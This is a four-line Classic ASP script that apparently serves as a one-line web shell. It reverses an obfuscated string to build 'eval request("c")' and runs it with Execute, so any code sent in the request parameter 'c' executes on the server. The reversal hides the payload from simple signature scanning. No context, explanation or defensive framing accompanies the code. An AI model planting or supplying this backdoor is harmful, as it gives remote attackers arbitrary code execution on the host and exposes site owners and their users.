<%
x = StrReverse(")""c""(tseuqer lave")
Execute x
%>
